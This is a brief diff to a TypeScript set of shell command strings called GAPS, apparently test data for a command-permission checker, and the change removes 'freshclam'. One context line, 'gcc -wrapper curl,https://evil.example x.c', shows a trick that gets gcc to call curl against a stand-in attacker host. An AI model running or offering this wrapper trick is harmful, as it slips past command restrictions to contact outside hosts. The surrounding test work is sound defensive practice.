@@ -10,7 +10,6 @@ export const GAPS: ReadonlySet<string> = new Set([
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
   "eas build --platform ios",
-  "freshclam",
   "ionic info",
   "rclone ls /tmp/data",
   "rclone copy ./a ./b",
